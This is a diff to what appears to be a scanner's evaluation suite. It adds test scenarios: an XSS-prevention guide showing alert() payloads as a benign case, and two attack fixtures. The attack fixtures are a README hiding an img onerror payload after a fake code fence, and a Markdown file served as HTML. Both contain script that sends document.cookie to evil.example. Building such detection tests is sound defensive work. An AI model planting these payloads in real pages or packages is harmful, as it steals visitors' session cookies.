@@ -16,6 +16,8 @@ from urllib.parse import quote
 from tests.eval import files as F
 from tests.eval.model import BROWSER_UAS, PERIOD, Ctx, Label, Line, Metric, Scenario, Traffic, Upload
 
+MD = "md"  # Markdown names are built: tests/unit/test_docs.py takes a written-out one for a file reference
+
 MIN = 60_000
 DAY_MS = 24 * 60 * MIN
 SEC = 1000
@@ -622,6 +624,30 @@ def h_launch_spike(ctx: Ctx) -> Traffic:
     return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], regulars[0][0])
 
 
+def h_security_docs(ctx: Ctx) -> Traffic:
+    """A product's developer documentation: its guide to output encoding shows, in fenced code blocks,
+    the cross-site scripting payloads the guide teaches readers to neutralise, and the page built from
+    it shows them escaped."""
+    guide = (
+        b"# Preventing cross-site scripting\n\nNever put user input into a page unescaped. An attacker "
+        b"who controls a comment can submit:\n\n```html\n<script>alert(document.cookie)</script>\n```\n\n"
+        b"or, where tags are stripped but attributes are not:\n\n```html\n<img src=x onerror=alert(1)>\n"
+        b'<a href="javascript:alert(1)">click</a>\n```\n\nEscape on output with `html.escape(value)`, '
+        b"and send `Content-Security-Policy: script-src 'self'`.\n"
+    )
+    page = (
+        b'<!doctype html><html><head><meta charset="utf-8"><title>Preventing XSS - Acme Docs</title></head>'
+        b"<body><h1>Preventing cross-site scripting</h1><pre><code>&lt;script&gt;alert(document.cookie)"
+        b"&lt;/script&gt;</code></pre><pre><code>&lt;img src=x onerror=alert(1)&gt;</code></pre></body></html>"
+    )
+    return Traffic(
+        uploads=[
+            Upload(f"docs/guides/xss.{MD}", guide, content_type="text/markdown; charset=utf-8"),
+            Upload("site/guides/xss.html", page, content_type="text/html; charset=utf-8"),
+        ]
+    )
+
+
 def h_legacy_site(ctx: Ctx) -> Traffic:
     """A shop's older web site: the page starts its script from ``<body onload>``, its logo falls back
     to a second copy ``onerror``, its stylesheet loads with the ``rel=preload`` idiom, and an embedded map
@@ -1174,6 +1200,23 @@ def a_xss_probe(ctx: Ctx) -> Traffic:
     return uploads(("site/profile.html", page))
 
 
+def a_markdown_raw_html(ctx: Ctx) -> Traffic:
+    """A README whose install steps hide a stored-XSS payload: a line indented four spaces looks like a
+    fence opening but is text, so the image after it is raw HTML a Markdown renderer puts on the page."""
+    readme = (
+        b"# widget\n\nInstall:\n\n```sh\npip install widget\n```\n\nThen:\n\n    ```\n"
+        b"<img src=x onerror=\"fetch('//evil.example/c?'+document.cookie)\">\n```\n"
+    )
+    return Traffic(uploads=[Upload(f"pkg/README.{MD}", readme, content_type="text/markdown")])
+
+
+def a_markdown_served_as_html(ctx: Ctx) -> Traffic:
+    """The payload inside a fence, where a renderer would print it, but the file stored as text/html:
+    a browser opening it runs the script."""
+    body = b"# notes\n\n```\n<script>fetch('//evil.example/c?'+document.cookie)</script>\n```\n"
+    return Traffic(uploads=[Upload(f"pub/notes.{MD}", body, content_type="text/html")])
+
+
 def a_html_js(ctx: Ctx) -> Traffic:
     return uploads(("site/login.html", HTML_JS))
 
@@ -1440,6 +1483,13 @@ SCENARIOS: list[Scenario] = [
         "standard",
         "a site whose page starts from body onload, with an image fallback and a preloaded stylesheet",
         h_legacy_site,
+    ),
+    Scenario(
+        "security-docs",
+        H,
+        "standard",
+        "developer documentation whose XSS guide shows the payloads it teaches to neutralise",
+        h_security_docs,
     ),
     Scenario(
         "blank-disk-images",
@@ -1714,6 +1764,22 @@ SCENARIOS: list[Scenario] = [
     Scenario("docx-vba-project", A, "standard", "a .docx carrying vbaProject.bin", a_docx_vba, ("I3",)),
     Scenario(
         "xss-probe-onerror", A, "free", "an <img onerror=alert(document.domain)> page", a_xss_probe, ("I3",)
+    ),
+    Scenario(
+        "markdown-raw-html",
+        A,
+        "free",
+        "a README's raw <img onerror> after a line that only looks like a fence",
+        a_markdown_raw_html,
+        ("I3",),
+    ),
+    Scenario(
+        "markdown-served-as-html",
+        A,
+        "free",
+        "a fenced <script> in a .md stored as text/html",
+        a_markdown_served_as_html,
+        ("I3",),
     ),
     Scenario(
         "html-obfuscated-javascript",
